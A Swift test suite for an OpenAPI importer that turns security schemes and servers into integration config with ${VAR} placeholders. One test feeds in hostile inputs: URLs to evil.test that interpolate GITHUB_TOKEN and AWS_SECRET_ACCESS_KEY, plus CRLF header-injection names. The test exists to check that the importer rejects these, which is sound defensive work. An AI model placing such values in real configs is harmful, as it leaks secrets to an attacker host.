import Catalog
import JSON
import Testing

@Suite struct AuthAndServerTests {
    private func auth(_ schemes: String, security: String = "") throws -> (JSONValue?, ImportResult) {
        let document = ImportHarness.document(
            paths: #"{"/a": {"get": {"responses": {}}}}"#, components: "{\"securitySchemes\": \(schemes)}",
            extra: security.isEmpty ? "" : "\"security\": \(security)")
        let result = try ImportHarness.run(document)
        #expect(try ImportHarness.validationErrors(result).isEmpty)
        return (result.integration["auth"], result)
    }

    @Test("securitySchemes become auth with ${VAR} placeholders")
    func schemes() throws {
        #expect(
            try auth(#"{"t": {"type": "http", "scheme": "bearer"}}"#).0
                == ["type": "bearer", "token": "${EXAMPLE_TOKEN}"])
        #expect(
            try auth(#"{"k": {"type": "apiKey", "in": "header", "name": "X-Api-Key"}}"#).0
                == ["type": "api_key", "in": "header", "name": "X-Api-Key", "value": "${EXAMPLE_API_KEY}"])
        #expect(
            try auth(#"{"k": {"type": "apiKey", "in": "query", "name": "api_token"}}"#).0
                == ["type": "api_key", "in": "query", "name": "api_token", "value": "${EXAMPLE_API_KEY}"])
        #expect(
            try auth(#"{"b": {"type": "http", "scheme": "basic"}}"#).0
                == ["type": "basic", "username": "${EXAMPLE_USERNAME}", "password": "${EXAMPLE_PASSWORD}"])
        let oauth = #"""
            {"o": {"type": "oauth2", "flows": {"clientCredentials": {"tokenUrl": "https://auth.example.test/token", "scopes": {}}}}}
            """#
        #expect(
            try auth(oauth).0
                == [
                    "type": "oauth2", "grant": "client_credentials", "token_url": "https://auth.example.test/token",
                    "client_id": "${EXAMPLE_CLIENT_ID}", "client_secret": "${EXAMPLE_CLIENT_SECRET}",
                    "client_auth": "basic",
                ])
    }

    @Test("the schemes the document's security names are preferred; unsupported ones are warnings")
    func preference() throws {
        let schemes = #"""
            {"basic": {"type": "http", "scheme": "basic"}, "bearer": {"type": "http", "scheme": "bearer"},
             "oidc": {"type": "openIdConnect", "openIdConnectUrl": "https://x.test"}}
            """#
        let (chosen, result) = try auth(schemes, security: #"[{"basic": []}, {"oidc": []}]"#)
        #expect(chosen?["type"] == "basic")
        #expect(result.warnings.contains { $0.message.contains("'oidc' (openIdConnect) is not supported") })
        let (none, quiet) = try auth(#"{"oidc": {"type": "openIdConnect", "openIdConnectUrl": "https://x.test"}}"#)
        #expect(none == nil)
        #expect(!quiet.warnings.isEmpty)
    }

    @Test("base_url sits behind a variable with the server as default; --base-url, variables and http are handled")
    func baseURL() throws {
        func base(_ servers: String, _ options: ImportOptions = ImportOptions(name: "example")) throws -> String? {
            let document = ImportHarness.document(paths: #"{"/a": {"get": {"responses": {}}}}"#, servers: servers)
            let result = try ImportHarness.run(document, options)
            #expect(try ImportHarness.validationErrors(result).isEmpty)
            return result.integration["base_url"]?.stringValue
        }
        #expect(
            try base(#"[{"url": "https://api.example.test/v1/"}]"#) == "${EXAMPLE_API_URL:-https://api.example.test/v1}"
        )
        #expect(
            try base(
                #"[{"url": "https://{region}.example.test", "variables": {"region": {"default": "eu"}}}]"#)
                == "${EXAMPLE_API_URL:-https://eu.example.test}")
        #expect(try base(#"[{"url": "http://api.example.test"}]"#) == "${EXAMPLE_API_URL:-https://api.example.test}")
        #expect(try base(#"[{"url": "/api/v3"}]"#) == "${EXAMPLE_API_URL}")
        #expect(try base("[]") == "${EXAMPLE_API_URL}")
        #expect(
            try base("[]", ImportOptions(name: "example", baseURL: "http://127.0.0.1:8080"))
                == "${EXAMPLE_API_URL:-http://127.0.0.1:8080}")
    }

    @Test("a hostile document cannot put ${VAR} where the loader interpolates, nor break a header line")
    func noSmuggledVariables() throws {
        let schemes = #"""
            {"o": {"type": "oauth2", "flows": {"clientCredentials": {"tokenUrl": "https://evil.test/t?k=${GITHUB_TOKEN}", "scopes": {}}}},
             "k": {"type": "apiKey", "in": "header", "name": "X-Key\r\nX-Evil: 1"}}
            """#
        let document = ImportHarness.document(
            paths: #"""
                {"/a": {"get": {"parameters": [{"name": "X-Trace\r\nHost: evil.test", "in": "header", "schema": {"type": "string"}}],
                 "responses": {}}}}
                """#,
            components: "{\"securitySchemes\": \(schemes)}",
            servers: #"[{"url": "https://evil.test/${AWS_SECRET_ACCESS_KEY}"}]"#)
        let result = try ImportHarness.run(document)
        #expect(try ImportHarness.validationErrors(result).isEmpty)
        #expect(result.integration["auth"] == nil)
        #expect(result.integration["base_url"] == "${EXAMPLE_API_URL}")
        #expect(!result.text.contains("GITHUB_TOKEN") && !result.text.contains("AWS_SECRET"))
        #expect(!result.text.contains("evil.test"))
    }

    @Test("without --name the integration is named after the server's host")
    func derivedName() throws {
        let document = ImportHarness.document(
            paths: #"{"/a": {"get": {"responses": {}}}}"#, servers: #"[{"url": "https://api.acme-corp.test"}]"#)
        let result = try ImportHarness.run(document, ImportOptions())
        #expect(result.integration["name"] == "acme_corp")
        #expect(result.integration["base_url"] == "${ACME_CORP_API_URL:-https://api.acme-corp.test}")
    }
}
